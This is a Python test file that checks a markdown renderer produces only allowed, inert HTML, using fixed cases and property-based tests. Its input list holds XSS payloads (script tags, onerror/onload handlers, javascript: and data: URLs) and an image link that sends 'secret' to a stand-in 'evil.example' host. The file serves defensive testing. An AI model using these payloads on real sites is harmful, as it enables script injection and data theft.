"""What is shown is inert, whoever wrote it."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from simulations.assistant import markdown

ALLOWED = markdown.TAGS


class Seen(HTMLParser):
    """Collects what a browser would make of the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= set(attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](https://evil.example)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](/simulations/../admin/)",
        "[x](/admin/logout/)",
        "[x](/simulationsx)",
        "<https://evil.example>",
        "[x]: https://evil.example\n\n[x]",
        '```"onmouseover=alert(1)\nx\n```',
        "<svg/onload=alert(1)>",
        "[a](data:text/html,x)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_nothing_foreign_is_loaded_or_linked(text: str) -> None:
    seen = Seen(markdown.html(text))
    assert seen.tags <= ALLOWED
    assert seen.attributes == set()


@pytest.mark.parametrize(
    "path", ["/simulations/run_1/", "/simulations/compare/?ids=a,b", "/queue/"]
)
def test_own_pages_are_linked(path: str) -> None:
    assert Seen(markdown.html(f"[x]({path})")).attributes == {("href", path)}


def test_markdown_is_rendered_below_the_pages_headings() -> None:
    html = markdown.html("# One\n\n|a|b|\n|-|-|\n|1|**2**|\n\n1. x")
    assert {"h3", "table", "strong", "ol"} <= Seen(html).tags


@given(st.text(max_size=200))
def test_any_text_is_shown_as_it_is(text: str) -> None:
    line = " ".join(text.replace("\0", "\ufffd").split())
    seen = Seen(markdown.html(markdown.plain(line)))
    assert seen.tags <= {"p"} and seen.text.strip() == line


@given(st.text(max_size=300))
def test_any_markdown_is_inert(text: str) -> None:
    seen = Seen(markdown.html(text))
    assert seen.tags <= ALLOWED
    assert all(name == "href" and value for name, value in seen.attributes)


@given(st.text(st.characters(exclude_characters="\r\0", exclude_categories=["Cs"]), max_size=200))
def test_a_block_of_code_cannot_be_left(text: str) -> None:
    assert Seen(markdown.html(markdown.block(text))).tags == {"pre", "code"}
